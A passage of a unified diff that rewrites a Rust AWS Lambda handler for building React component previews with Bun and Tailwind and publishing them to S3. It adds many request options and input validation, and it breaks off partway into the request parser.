@@ -1,303 +1,6899 @@
-use aws_sdk_s3::{primitives::ByteStream, Client};
+use crate::bundler::{
+    select_bundler, validate_define, validate_extra_arg, validate_jsx_import_source,
+    validate_loader, BunBuildOptions, Bundler, JsxRuntime, OutputFormat, ReactMode, MAX_DEFINES,
+    SHARED_REACT_MODULES, STATS_FILE,
+};
+use crate::cdn::{invalidate_with_retries, Invalidator, RetryPolicy};
+use crate::entry::{
+    is_valid_component_export, render_entry_point, validate_entries, EntryOptions, NamedEntry,
+};
+use crate::html::{
+    font_face_rule, font_type, import_map, is_safe_attribute_value, is_safe_snippet, is_valid_lang,
+    is_valid_nonce, normalize_base_path, render_html, render_sandbox_page, validate_loading_html,
+    validate_variant, AssetUrlMode, ColorScheme, HtmlOptions, ViewportVariant, FONTS_DIR,
+    FONTS_STYLESHEET,
+};
+use crate::imports::{find_denied_import, unused_dependencies, DEFAULT_DENYLIST};
+use crate::lint::{is_linted, lint_args, parse_diagnostics, Diagnostic, Severity};
+use crate::patch::{added_text, apply_patch, check_targets, parse_patch, PatchError};
+use crate::progress::Progress;
+use crate::storage::{
+    encode_tagging, etag_of, parse_tag_list, sha256_of, validate_tag, ChecksumMismatch,
+    NoSuchBucket, ObjectStore, Pooled, PutObject,
+};
+use crate::tailwind::{
+    apply_safelist, installed_version, purged_classes, validate_safelist_class, TailwindVersion,
+    MAX_SAFELIST,
+};
+use crate::workspace::{
+    check_path_depth, contained_path, validate_files, SourceFile, DEFAULT_MAX_PATH_DEPTH,
+};
+use aws_sdk_s3::Client;
+use base64::{engine::general_purpose::STANDARD as BASE64, Engine};
+use bytes::Bytes;
 use fs_extra::dir::{copy, CopyOptions};
-use lambda_http::{tracing, Body, Error, Request, RequestExt, Response};
+use futures::future::try_join_all;
+use lambda_http::{
+    http::{
+        header::{
+            HeaderValue, ACCEPT_ENCODING, CACHE_CONTROL, CONTENT_ENCODING, CONTENT_TYPE, ETAG,
+            IF_NONE_MATCH, VARY,
+        },
+        Method,
+    },
+    lambda_runtime::streaming::{channel, Body as StreamBody, Sender},
+    tracing::{self, Instrument},
+    Body, Error, Request, RequestExt, Response,
+};
 use serde::{Deserialize, Serialize};
 use serde_json::json;
-use std::{env, path::Path};
+use sha2::{Digest, Sha256};
+use std::{
+    collections::{BTreeMap, HashMap, HashSet},
+    env, fmt,
+    io::{Cursor, Write},
+    path::{Path, PathBuf},
+    process::{Output, Stdio},
+    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
+};
 use tokio::{
     fs::{self, create_dir_all, write},
     process::Command,
+    sync::OnceCell,
     try_join,
 };
+use zip::{write::SimpleFileOptions, ZipWriter};
+
+/// Where Bun is installed in the Lambda image unless `BUN_BIN` says
+/// otherwise.
+const DEFAULT_BUN_BIN: &str = "/usr/local/bin/bun";
+
+/// `npx`, for bundling with esbuild where Bun is missing, unless `NPX_BIN`
+/// says otherwise.
+const DEFAULT_NPX_BIN: &str = "npx";
+
+const DEFAULT_INDEX_NAME: &str = "index.html";
+
+/// How long any single toolchain command may run unless `BUILD_TIMEOUT_SECS`
+/// says otherwise.
+const DEFAULT_BUILD_TIMEOUT: Duration = Duration::from_secs(300);
+
+/// Where shared modules are loaded from unless `IMPORT_MAP_CDN` and
+/// `SHARED_REACT_VERSION` say otherwise.
+const DEFAULT_IMPORT_MAP_CDN: &str = "https://esm.sh";
+const DEFAULT_SHARED_REACT_VERSION: &str = "19";
+
+/// How many times the template copy is tried before the build gives up,
+/// unless `TEMPLATE_COPY_ATTEMPTS` says otherwise.
+const DEFAULT_COPY_ATTEMPTS: u32 = 3;
+
+const COPY_RETRY_DELAY: Duration = Duration::from_millis(200);
+
+/// How many calls a throttled CloudFront invalidation gets, and the wait
+/// after the first, unless `INVALIDATION_ATTEMPTS` and
+/// `INVALIDATION_BACKOFF_MS` say otherwise.
+const DEFAULT_INVALIDATION_ATTEMPTS: u32 = 5;
+const DEFAULT_INVALIDATION_BACKOFF: Duration = Duration::from_millis(500);
+
+/// How long the presigned `archiveUrl` stays valid.
+const ARCHIVE_URL_TTL: Duration = Duration::from_secs(60 * 60);
+
+/// What a request builds.
+#[derive(Debug, Default, Clone, Copy, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+enum BuildMode {
+    /// The bundle, stylesheet and pages.
+    #[default]
+    Full,
+    /// Only the Tailwind stylesheet, published as `index.css`, for iterating
+    /// on styles without rebuilding the component.
+    CssOnly,
+    /// Only a syntax check of the sources, for editor feedback: diagnostics
+    /// are returned and nothing is built or published.
+    Lint,
+}
+
+/// `Cache-Control` for uploaded files whose name matches `pattern`.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+struct CacheRule {
+    /// Glob over the file name, as for `exclude`.
+    pattern: String,
+    cache_control: String,
+}
+
+/// A binary file published with the page, such as a font.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+struct AssetFile {
+    /// File name it is published under, e.g. `Inter-Bold.woff2`.
+    name: String,
+    /// Base64-encoded content.
+    content: String,
+    /// CSS `font-family` a font is declared as; the file name's stem if
+    /// unset.
+    family: Option<String>,
+}
 
 #[derive(Debug, Serialize, Deserialize)]
 struct RequestBody {
     component_id: String,
+    /// Component source; may be omitted when `source_s3_key` is given.
+    #[serde(default)]
     code: String,
+    /// Key of an object in the bucket holding the component source, used
+    /// instead of inline `code`. Must live under `SOURCE_KEY_PREFIX`.
+    source_s3_key: Option<String>,
+    archive: Option<bool>,
+    /// Extra npm packages (name to version range) to install before building.
+    dependencies: Option<HashMap<String, String>>,
+    /// A `bun.lock` (text) or base64-encoded `bun.lockb` to pin `dependencies`.
+    bun_lockfile: Option<String>,
+    /// Nonce to allow the preview's script under a strict CSP.
+    csp_nonce: Option<String>,
+    /// Replaces the default viewport meta content of the preview page.
+    viewport: Option<String>,
+    /// Raw flags appended to `bun build` (e.g. `--splitting`). Each must start
+    /// with `--`; flags beyond the modelled options are used at the caller's
+    /// own risk.
+    bun_args: Option<Vec<String>>,
+    /// Path prefix (or absolute URL) the preview is served under when it
+    /// doesn't have a dedicated subdomain.
+    base_path: Option<String>,
+    /// Extra S3 object tags applied to every uploaded file.
+    tags: Option<HashMap<String, String>>,
+    /// File name of the generated page; defaults to [`DEFAULT_INDEX_NAME`].
+    index_name: Option<String>,
+    /// `light`, `dark` or `system` (the default).
+    color_scheme: Option<ColorScheme>,
+    /// Tailwind major version (`3` or `4`) whose CLI should compile the CSS;
+    /// defaults to the version installed in the template.
+    tailwind_version: Option<String>,
+    /// Treat toolchain warnings as a failed (422) build.
+    fail_on_warnings: Option<bool>,
+    /// Additional pages, each rendering another component from the workspace.
+    entries: Option<Vec<NamedEntry>>,
+    /// Bun loaders for extra file types, keyed by extension (e.g. `svg: file`).
+    loaders: Option<HashMap<String, String>>,
+    /// Semantic version to publish under `{component_id}/{version}/`; the
+    /// same build is also copied to `{component_id}/latest/`.
+    version: Option<String>,
+    /// Markup injected at the end of the page's `<head>` (e.g. analytics).
+    html_head_extra: Option<String>,
+    /// Markup injected at the end of the page's `<body>`.
+    html_body_extra: Option<String>,
+    /// `automatic` (the default) or `classic`, for components that expect
+    /// `React` to be in scope.
+    jsx_runtime: Option<JsxRuntime>,
+    /// Named export to render instead of the component's default export.
+    component_export: Option<String>,
+    /// Glob patterns (`*` and `?`) of emitted file names not to publish,
+    /// e.g. `*.map`.
+    exclude: Option<Vec<String>>,
+    /// `Cache-Control` overrides, tried in order against each uploaded file's
+    /// name; files no rule matches get [`default_cache_control`].
+    cache_rules: Option<Vec<CacheRule>>,
+    /// Load React from a shared CDN through an import map instead of bundling
+    /// it, so several previews on one page share a single copy.
+    importmap: Option<bool>,
+    /// Headers the CDN should serve the generated pages with (e.g.
+    /// `X-Frame-Options`), stored as metadata on the HTML objects for an edge
+    /// function to promote.
+    response_headers: Option<HashMap<String, String>>,
+    /// Publish Bun's build metadata as `stats.json` for bundle analysis tools.
+    stats: Option<bool>,
+    /// Render errors thrown by the component into the preview (the default)
+    /// instead of leaving the page blank.
+    error_boundary: Option<bool>,
+    /// Extra copies of the page, each laid out at a fixed size and published
+    /// as `{name}.html`.
+    viewports: Option<Vec<ViewportVariant>>,
+    /// Emit shared code as separate chunks that the entry modules import.
+    split: Option<bool>,
+    /// Also publish the component as a library in each of these module
+    /// formats, as `index.{format}.js`.
+    formats: Option<Vec<OutputFormat>>,
+    /// Preserve function and class names in the bundle for readable errors.
+    keep_names: Option<bool>,
+    /// `development` for React's warnings and checks; `production` otherwise.
+    react_mode: Option<ReactMode>,
+    /// Fold the compiled CSS into `index.js`, which injects it at runtime, so
+    /// the page needs no stylesheet.
+    single_file: Option<bool>,
+    /// Package supplying the automatic JSX runtime, e.g. `@emotion/react`.
+    jsx_import_source: Option<String>,
+    /// Replaces the template's `tsconfig.json`, e.g. to add path aliases.
+    tsconfig: Option<String>,
+    /// Echo the generated entry point and page under `generated`.
+    return_generated: Option<bool>,
+    /// `relative` (the default) or `absolute` asset references in the page.
+    asset_url_mode: Option<AssetUrlMode>,
+    /// Language tag for `<html lang>`, `en` by default.
+    lang: Option<String>,
+    /// Placeholder (e.g. a spinner) shown in the page until the component
+    /// mounts; nothing by default.
+    loading_html: Option<String>,
+    /// Unified diff applied to the template before the build, for small
+    /// changes to its configuration.
+    patch: Option<String>,
+    /// Caller's identifier for the build (e.g. a tenant), added to its logs
+    /// and stored as `label` metadata on every uploaded object.
+    label: Option<String>,
+    /// Publish the page as a shell that runs the component in a sandboxed
+    /// iframe, with the component's own page alongside as `sandboxed.html`.
+    /// The frame's origin is opaque, so the bucket or CDN must send
+    /// `Access-Control-Allow-Origin` for its module script to load.
+    sandbox: Option<bool>,
+    /// Publish under a prefix named by the build's content hash and then
+    /// point `latest.json` at it, so no one sees a half-uploaded build.
+    immutable: Option<bool>,
+    /// Further source files (components, hooks, data) the component or
+    /// `entries` import, written under `src`.
+    files: Option<Vec<SourceFile>>,
+    /// Base64-encoded ICO, PNG or SVG icon for the preview's tab.
+    favicon: Option<String>,
+    /// WOFF2, WOFF, TTF or OTF fonts published under `fonts/`, declared in
+    /// `fonts.css` and preloaded by the page.
+    fonts: Option<Vec<AssetFile>>,
+    /// Identifiers substituted at build time, e.g. `process.env.API_URL` to
+    /// `"https://api.example.com"`.
+    define: Option<HashMap<String, String>>,
+    /// List classes used in the sources that the compiled CSS lacks.
+    report_purged: Option<bool>,
+    /// Classes Tailwind must generate even though no source spells them out,
+    /// e.g. ones assembled at runtime.
+    safelist: Option<Vec<String>>,
+    /// Check the page and its main assets can be read back before reporting
+    /// success.
+    verify: Option<bool>,
+    /// Capture a PNG of the rendered page as `preview.png`; needs a browser
+    /// configured through `SCREENSHOT_BROWSER`.
+    screenshot: Option<bool>,
+    /// Publish `{component_id}/report.json` summarising the build for CI.
+    report: Option<bool>,
+    /// `full` (the default), `css-only` or `lint`.
+    mode: Option<BuildMode>,
+    /// Stylesheet Tailwind compiles in `css-only` mode in place of the
+    /// template's `globals.css`.
+    globals_css: Option<String>,
 }
 
-fn error_response(status: u16, message: String) -> Result<Response<Body>, Error> {
-    let resp = Response::builder()
-        .status(status)
-        .header("content-type", "text/html")
-        .body(message.into())
-        .map_err(Box::new)?;
-    Ok(resp)
-}
+impl RequestBody {
+    /// The first requested feature that runs Bun directly rather than
+    /// through a [`Bundler`], so can't fall back to esbuild.
+    fn bun_only_feature(&self) -> Option<&'static str> {
+        if self.bun_args.is_some() {
+            Some("bun_args")
+        } else if self.mode == Some(BuildMode::Lint) {
+            Some("mode lint")
+        } else if self.dependencies.is_some() {
+            Some("dependencies")
+        } else if self.bun_lockfile.is_some() {
+            Some("bun_lockfile")
+        } else {
+            None
+        }
+    }
 
-pub(crate) async fn function_handler(event: Request) -> Result<Response<Body>, Error> {
-    // ENVIRONMENT VARIABLES
-    let bucket_name = env::var("S3_BUCKET_NAME").map_err(|_| "S3_BUCKET_NAME not set")?;
-    let cloudfront_domain =
-        env::var("CLOUDFRONT_DOMAIN").map_err(|_| "CLOUDFRONT_DOMAIN not set")?;
-    let region = env::var("AWS_REGION").map_err(|_| "AWS_REGION not set")?;
-    let lambda_task_root = env::var("LAMBDA_TASK_ROOT").map_err(|_| "LAMBDA_TASK_ROOT not set")?;
+    /// The component and every submitted file, as scanned for imports.
+    fn sources(&self) -> Vec<&str> {
+        let mut sources = vec![self.code.as_str()];
+        sources.extend(
+            self.files
+                .iter()
+                .flatten()
+                .map(|file| file.content.as_str()),
+        );
+        sources
+    }
 
-    let body = event.body();
-    let s = std::str::from_utf8(body).expect("invalid utf-8");
+    /// The first denied module imported by the component, one of its files
+    /// or a line the patch adds to the template.
+    fn denied_import(&self, denylist: &[String]) -> Option<String> {
+        let patched = self.patch.as_deref().map(added_text).unwrap_or_default();
+        self.sources()
+            .into_iter()
+            .chain([patched.as_str()])
+            .find_map(|source| find_denied_import(source, denylist))
+    }
 
-    tracing::info!(payload = %s, "JSON Payload received");
+    /// Checks the optional fields that end up in generated files or command
+    /// lines, returning a message suitable for a 400 response.
+    fn validate(&self) -> Result<(), String> {
+        if !is_valid_component_id(&self.component_id) {
+            return Err(format!("invalid component_id: {}", self.component_id));
+        }
+        if is_reserved_component_id(&self.component_id) {
+            return Err("reserved component_id".to_string());
+        }
 
-    let request_body: RequestBody = serde_json::from_slice(body.as_ref())?;
+        if let Some(key) = &self.source_s3_key {
+            if !self.code.is_empty() {
+                return Err("code and source_s3_key are mutually exclusive".to_string());
+            }
+            if key.starts_with('/') || key.split('/').any(|segment| segment == "..") {
+                return Err(format!("invalid source_s3_key: {}", key));
+            }
+        }
 
-    let data = match serde_json::from_str::<RequestBody>(s) {
-        Ok(data) => data,
-        Err(err) => {
-            return error_response(400, err.to_string());
+        if let Some(nonce) = &self.csp_nonce {
+            if !is_valid_nonce(nonce) {
+                return Err("csp_nonce must be a base64 string".to_string());
+            }
         }
-    };
 
-    let component_id = &data.component_id;
+        if let Some(lang) = &self.lang {
+            if !is_valid_lang(lang) {
+                return Err(format!("invalid lang: {}", lang));
+            }
+        }
 
-    let workspace_dir = Path::new("/tmp").join(component_id);
-    let src_dir = workspace_dir.join("src");
-    let out_dir = workspace_dir.join("dist");
+        if let Some(loading_html) = &self.loading_html {
+            validate_loading_html(loading_html)?;
+        }
 
-    tracing::info!(
-        component_id = component_id,
-        "Creating isolated workspace at {}",
-        workspace_dir.display()
-    );
+        if let Some(viewport) = &self.viewport {
+            if !is_safe_attribute_value(viewport) {
+                return Err("viewport must not contain quotes or angle brackets".to_string());
+            }
+        }
 
-    let templates_path = Path::new(&lambda_task_root).join("templates");
+        for arg in self.bun_args.iter().flatten() {
+            validate_extra_arg(arg)?;
+        }
 
-    let output = Command::new("cp")
-        .arg("-r")
-        .arg(&templates_path)
-        .arg("/tmp/")
-        .output()
-        .await
-        .map_err(|e| format!("Failed to execute cp command: {}", e))?;
+        if let Some(source) = &self.jsx_import_source {
+            validate_jsx_import_source(source)?;
+            if self.jsx_runtime == Some(JsxRuntime::Classic) {
+                return Err("jsx_import_source requires the automatic JSX runtime".to_string());
+            }
+        }
 
-    if !output.status.success() {
-        let error_msg = String::from_utf8_lossy(&output.stderr);
-        return error_response(500, format!("cp command failed: {}", error_msg));
-    }
+        if let Some(define) = &self.define {
+            if define.len() > MAX_DEFINES {
+                return Err(format!(
+                    "at most {} define entries are allowed",
+                    MAX_DEFINES
+                ));
+            }
+            for (key, value) in define {
+                validate_define(key, value)?;
+            }
+        }
 
-    let temp_templates_dir = Path::new("/tmp/templates");
-    if let Err(e) = fs::rename(&temp_templates_dir, &workspace_dir).await {
-        return error_response(500, format!("Failed to rename templates directory: {}", e));
-    }
+        for (extension, loader) in self.loaders.iter().flatten() {
+            validate_loader(extension, loader)?;
+        }
 
-    tracing::info!(
-        component_id = component_id,
-        "Successfully copied templates to workspace"
-    );
+        if let Some(base_path) = &self.base_path {
+            if !is_safe_attribute_value(base_path) || base_path.contains(char::is_whitespace) {
+                return Err("base_path must be a URL path without quotes or spaces".to_string());
+            }
+        }
 
-    tracing::info!(component_id = component_id, "Writing component and CSS ");
+        for (key, value) in self.tags.iter().flatten() {
+            validate_tag(key, value)?;
+        }
 
-    create_dir_all(&src_dir)
-        .await
-        .map_err(|e| format!("Failed to create src directory: {}", e))?;
-    create_dir_all(&out_dir)
-        .await
-        .map_err(|e| format!("Failed to create out directory: {}", e))?;
+        if let Some(version) = &self.tailwind_version {
+            if TailwindVersion::parse(version).is_none() {
+                return Err(format!("unsupported tailwind_version: {}", version));
+            }
+        }
 
-    let globals_source = workspace_dir.join("globals.css");
-    let globals_dest = src_dir.join("globals.css");
+        if let Some(safelist) = &self.safelist {
+            if safelist.len() > MAX_SAFELIST {
+                return Err(format!(
+                    "at most {} safelist classes are allowed",
+                    MAX_SAFELIST
+                ));
+            }
+            for class in safelist {
+                validate_safelist_class(class)?;
+            }
+        }
 
-    if let Err(e) = fs::copy(&globals_source, &globals_dest).await {
-        tracing::error!(
-            error = %e,
-            source = %globals_source.display(),
-            dest = %globals_dest.display(),
-            "Failed to copy globals.css"
+        if let Some(index_name) = &self.index_name {
+            if !is_valid_index_name(index_name) {
+                return Err(format!(
+                    "index_name must be a plain .html file name: {}",
+                    index_name
+                ));
+            }
+        }
+
+        if let Some(files) = &self.files {
+            let entry_names: Vec<&str> = self
+                .entries
+                .iter()
+                .flatten()
+                .map(|entry| entry.name.as_str())
+                .collect();
+            validate_files(files, &entry_names)?;
+        }
+
+        if let Some(patch) = &self.patch {
+            check_targets(&parse_patch(patch)?)?;
+        }
+
+        if let Some(label) = &self.label {
+            let valid = !label.is_empty()
+                && label.len() <= MAX_LABEL_LEN
+                && label.chars().all(|c| c == ' ' || c.is_ascii_graphic());
+            if !valid {
+                return Err(format!(
+                    "label must be 1 to {} printable ASCII characters",
+                    MAX_LABEL_LEN
+                ));
+            }
+        }
+
+        if self.globals_css.is_some() && self.mode != Some(BuildMode::CssOnly) {
+            return Err("globals_css requires mode css-only".to_string());
+        }
+
+        // An absolute URL would have to name the content hash of the deploy
+        // it is part of.
+        if self.immutable.unwrap_or(false) && self.asset_url_mode == Some(AssetUrlMode::Absolute) {
+            return Err("asset_url_mode absolute can't be combined with immutable".to_string());
+        }
+
+        if let Some(formats) = &self.formats {
+            if formats.is_empty() {
+                return Err("formats must not be empty".to_string());
+            }
+            for (i, format) in formats.iter().enumerate() {
+                if formats[..i].contains(format) {
+                    return Err(format!("duplicate format: {}", format.as_arg()));
+                }
+            }
+            if self.split.unwrap_or(false) && formats.iter().any(|f| *f != OutputFormat::Esm) {
+                return Err("split only supports the esm format".to_string());
+            }
+        }
+
+        if let Some(tsconfig) = &self.tsconfig {
+            match serde_json::from_str::<serde_json::Value>(tsconfig) {
+                Ok(value) if value.is_object() => {}
+                Ok(_) => return Err("tsconfig must be a JSON object".to_string()),
+                Err(e) => return Err(format!("tsconfig is not valid JSON: {}", e)),
+            }
+        }
+
+        if let Some(favicon) = &self.favicon {
+            decode_favicon(favicon)?;
+        }
+
+        if let Some(fonts) = &self.fonts {
+            if fonts.len() > MAX_FONTS {
+                return Err(format!("at most {} fonts are allowed", MAX_FONTS));
+            }
+            for (i, font) in fonts.iter().enumerate() {
+                decode_font(font)?;
+                if fonts[..i].iter().any(|other| other.name == font.name) {
+                    return Err(format!("duplicate font: {}", font.name));
+                }
+            }
+        }
+
+        if let Some(entries) = &self.entries {
+            validate_entries(entries)?;
+
+            let index_name = self.index_name.as_deref().unwrap_or(DEFAULT_INDEX_NAME);
+            if let Some(entry) = entries
+                .iter()
+                .find(|entry| format!("{}.html", entry.name) == index_name)
+            {
+                return Err(format!("entry {} collides with index_name", entry.name));
+            }
+        }
+
+        if self.sandbox.unwrap_or(false) {
+            let index_name = self.index_name.as_deref().unwrap_or(DEFAULT_INDEX_NAME);
+            let page_names = self
+                .entries
+                .iter()
+                .flatten()
+                .map(|entry| entry.name.as_str())
+                .chain(
+                    self.viewports
+                        .iter()
+                        .flatten()
+                        .map(|variant| variant.name.as_str()),
+                );
+            if index_name == SANDBOX_INNER_PAGE
+                || page_names
+                    .map(|name| format!("{}.html", name))
+                    .any(|page| page == SANDBOX_INNER_PAGE)
+            {
+                return Err(format!(
+                    "{} is reserved in sandbox mode",
+                    SANDBOX_INNER_PAGE
+                ));
+            }
+        }
+
+        if let Some(name) = &self.component_export {
+            if !is_valid_component_export(name) {
+                return Err(format!(
+                    "component_export must be a capitalised JavaScript identifier: {}",
+                    name
+                ));
+            }
+        }
+
+        for (name, value) in self.response_headers.iter().flatten() {
+            validate_response_header(name, value)?;
+        }
+
+        let mut pages = HashSet::from([self
+            .index_name
+            .clone()
+            .unwrap_or_else(|| DEFAULT_INDEX_NAME.to_string())]);
+        pages.extend(
+            self.entries
+                .iter()
+                .flatten()
+                .map(|entry| format!("{}.html", entry.name)),
         );
-        return error_response(500, format!("Failed to copy globals.css: {}", e));
-    }
+        for variant in self.viewports.iter().flatten() {
+            validate_variant(variant)?;
+            if !pages.insert(format!("{}.html", variant.name)) {
+                return Err(format!(
+                    "viewport {} collides with another page",
+                    variant.name
+                ));
+            }
+        }
 
-    tracing::info!(
-        source = %globals_source.display(),
-        dest = %globals_dest.display(),
-        "Successfully copied globals.css"
-    );
+        for pattern in self.exclude.iter().flatten() {
+            validate_glob(pattern)?;
+        }
 
-    if let Err(e) = write(src_dir.join("UserComponent.tsx"), &data.code).await {
-        tracing::error!(error = %e, "Failed to write component file");
-        return error_response(500, format!("Failed to write component file: {}", e));
-    }
-
-    let entry_point = format!(
-        r#"
-    import React from 'react';
-    import ReactDOM from 'react-dom/client';
-    import UserComponent from './UserComponent';
-    import './globals.css';
-    
-    const rootEl = document.getElementById('root');
-    if (rootEl) ReactDOM.createRoot(rootEl).render(<UserComponent />);
-    "#
-    );
+        if let Some(rules) = &self.cache_rules {
+            if rules.len() > MAX_CACHE_RULES {
+                return Err(format!(
+                    "at most {} cache_rules are allowed",
+                    MAX_CACHE_RULES
+                ));
+            }
+            for rule in rules {
+                validate_cache_rule(rule)?;
+            }
+        }
+
+        if let Some(version) = &self.version {
+            if !is_valid_semver(version) {
+                return Err(format!("version must be a semantic version: {}", version));
+            }
+        }
+
+        for (field, snippet) in [
+            ("html_head_extra", &self.html_head_extra),
+            ("html_body_extra", &self.html_body_extra),
+        ] {
+            if snippet.as_deref().is_some_and(|s| !is_safe_snippet(s)) {
+                return Err(format!(
+                    "{} must not open or close the document's html, head or body",
+                    field
+                ));
+            }
+        }
 
-    if let Err(e) = write(src_dir.join("index.tsx"), &entry_point).await {
-        tracing::error!(error = %e, "Failed to write entry point");
-        return error_response(500, format!("Failed to write component file: {}", e));
+        Ok(())
     }
+}
 
-    tracing::info!(component_id = component_id, "Successfully copied TSXs");
+/// Top-level key prefixes and routes used by the service itself. Anything
+/// starting with [`INTERNAL_PREFIX`] is reserved too.
+const RESERVED_COMPONENT_IDS: &[&str] = &["health", "assets"];
 
-    tracing::info!(component_id = component_id, "Starting Bun bundling");
+/// Prefix of every internal object or marker (e.g. [`SIZES_OBJECT`]).
+const INTERNAL_PREFIX: &str = "_nimbus";
 
-    let bun_output = Command::new("/usr/local/bin/bun")
-        .arg("build")
-        .arg("./src/index.tsx")
-        .arg("--outdir")
-        .arg("./dist")
-        .arg("--target")
-        .arg("browser")
-        .current_dir(&workspace_dir)
-        .output()
-        .await
-        .map_err(|e| format!("Failed to execute bun build: {}", e))?;
+/// Longest component id accepted: one DNS label, since the id is the
+/// preview's subdomain (see [`render_url`]).
+const MAX_COMPONENT_ID_LEN: usize = 63;
+
+/// Component ids name the workspace under `/tmp` and the key prefix, so only
+/// a single segment of letters, digits, `-` and `_` is accepted.
+fn is_valid_component_id(component_id: &str) -> bool {
+    !component_id.is_empty()
+        && component_id.len() <= MAX_COMPONENT_ID_LEN
+        && component_id
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+}
+
+fn is_reserved_component_id(component_id: &str) -> bool {
+    let id = component_id.to_ascii_lowercase();
+    id.starts_with(INTERNAL_PREFIX) || RESERVED_COMPONENT_IDS.contains(&id.as_str())
+}
+
+/// Index names become both a file in `dist` and part of the S3 key, so only
+/// a single path segment ending in `.html` is accepted.
+fn is_valid_index_name(name: &str) -> bool {
+    name.len() <= 64
+        && name
+            .strip_suffix(".html")
+            .is_some_and(|stem| !stem.is_empty() && !stem.starts_with('.'))
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
+}
 
-    if !bun_output.status.success() {
-        let stderr = String::from_utf8_lossy(&bun_output.stderr);
-        return error_response(500, format!("Bun build failed: {}", stderr));
+/// Accepts `MAJOR.MINOR.PATCH` with optional `-prerelease` and `+build`
+/// suffixes, as defined by semver 2.0.
+fn is_valid_semver(version: &str) -> bool {
+    let is_identifier = |part: &str| {
+        !part.is_empty() && part.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+    };
+    let is_number = |part: &str| {
+        !part.is_empty()
+            && part.chars().all(|c| c.is_ascii_digit())
+            && (part == "0" || !part.starts_with('0'))
+    };
+
+    let (version, build) = match version.split_once('+') {
+        Some((version, build)) => (version, Some(build)),
+        None => (version, None),
+    };
+    let (core, prerelease) = match version.split_once('-') {
+        Some((core, prerelease)) => (core, Some(prerelease)),
+        None => (version, None),
+    };
+
+    let core: Vec<&str> = core.split('.').collect();
+    core.len() == 3
+        && core.iter().all(|part| is_number(part))
+        && prerelease.is_none_or(|pre| {
+            pre.split('.').all(|part| {
+                is_identifier(part)
+                    && (!part.chars().all(|c| c.is_ascii_digit()) || is_number(part))
+            })
+        })
+        && build.is_none_or(|build| build.split('.').all(is_identifier))
+}
+
+/// Key prefix a build is published under: the component itself, or one of
+/// its versions.
+fn upload_prefix(component_id: &str, version: Option<&str>) -> String {
+    match version {
+        Some(version) => format!("{}/{}", component_id, version),
+        None => component_id.to_string(),
     }
+}
 
-    tracing::info!(component_id = component_id, "Starting tailwind build");
+/// Render URL of `page` published under `prefix`, which starts with the
+/// component id and may go on to a version and a deploy hash.
+fn published_page_url(component_id: &str, prefix: &str, page: &str) -> String {
+    let path = prefix
+        .strip_prefix(component_id)
+        .unwrap_or_default()
+        .trim_start_matches('/');
+    if path.is_empty() {
+        render_url(component_id, page)
+    } else {
+        render_url(component_id, &format!("{}/{}", path, page))
+    }
+}
 
-    let tailwind_input_path = src_dir.join("globals.css");
-    let tailwind_output_path = out_dir.join("index.css");
-    let tailwind_command = Command::new("/usr/local/bin/bun")
-        .arg("x")
-        .arg("tailwindcss")
-        .arg("-i")
-        .arg(&tailwind_input_path)
-        .arg("-o")
-        .arg(&tailwind_output_path)
-        .current_dir(&workspace_dir)
-        .output()
-        .await
-        .map_err(|e| format!("Failed to execute tailwind build: {}", e))?;
+fn render_url(component_id: &str, index_name: &str) -> String {
+    format!(
+        "https://{}.preview.runney.cloud/{}",
+        component_id, index_name
+    )
+}
+
+/// Strips any scheme and trailing slash from a configured domain, so both
+/// `d123.cloudfront.net` and `https://d123.cloudfront.net/` work.
+fn normalize_domain(domain: &str) -> &str {
+    let domain = domain.trim();
+    let domain = domain
+        .strip_prefix("https://")
+        .or_else(|| domain.strip_prefix("http://"))
+        .unwrap_or(domain);
+    domain.trim_end_matches('/')
+}
 
-    if !tailwind_command.status.success() {
-        let stderr = String::from_utf8_lossy(&tailwind_command.stderr);
-        return error_response(500, format!("Tailwind build failed: {}", stderr));
+/// Base URL objects are served from: CloudFront when configured, otherwise
+/// the bucket's own S3 endpoint, path-style for a dotted bucket name (see
+/// [`needs_path_style`]).
+fn origin_url(cloudfront_domain: Option<&str>, bucket_name: &str, region: &str) -> String {
+    match cloudfront_domain {
+        Some(domain) => format!("https://{}", normalize_domain(domain)),
+        None if needs_path_style(bucket_name) => {
+            format!("https://s3.{}.amazonaws.com/{}", region, bucket_name)
+        }
+        None => format!("https://{}.s3.{}.amazonaws.com", bucket_name, region),
     }
+}
 
-    tracing::info!(component_id = component_id, "Generating HTML");
+/// S3's wildcard certificate covers a single label, so a bucket name with
+/// dots can't be reached over HTTPS as a subdomain and has to go in the path.
+fn needs_path_style(bucket_name: &str) -> bool {
+    bucket_name.contains('.')
+}
 
-    let html_content = format!(
-        r#"<!DOCTYPE html>
-      <html lang="en">
-        <head>
-          <meta charset="UTF-8" />
-          <meta name="viewport" content="width=device-width, initial-scale=1.0" />
-          <title>Rendered Component</title>
-          <link rel="stylesheet" href="./index.css" />
-        </head>
-        <body>
-          <div id="root"></div>
-          <script type="module" src="./index.js"></script>
-        </body>
-      </html>"#
-    );
+fn original_url(origin: &str, component_id: &str, index_name: &str) -> String {
+    format!("{}/{}/{}", origin, component_id, index_name)
+}
+
+/// Requests without a content type are accepted for older clients; anything
+/// else must be JSON (parameters such as `charset` are ignored).
+fn accepts_content_type(event: &Request) -> bool {
+    let Some(content_type) = event.headers().get(CONTENT_TYPE) else {
+        return true;
+    };
 
-    write(out_dir.join("index.html"), html_content).await?;
+    content_type.to_str().is_ok_and(|value| {
+        value
+            .split(';')
+            .next()
+            .is_some_and(|media_type| media_type.trim().eq_ignore_ascii_case("application/json"))
+    })
+}
+
+/// Fields a request can't be built without.
+const REQUIRED_FIELDS: &[&str] = &["component_id"];
 
-    let s3_config = aws_config::load_defaults(aws_config::BehaviorVersion::latest()).await;
-    let s3_client = Client::new(&s3_config);
+/// Source objects must live under this prefix unless `SOURCE_KEY_PREFIX`
+/// names another, so a request can't read arbitrary objects from the bucket.
+const DEFAULT_SOURCE_KEY_PREFIX: &str = "sources/";
 
-    let mut dir_entries = fs::read_dir(&out_dir).await?;
+/// Parses the request, naming the offending field when a required one is
+/// missing rather than relying on serde's positional message.
+fn parse_request_body(body: &[u8]) -> Result<RequestBody, String> {
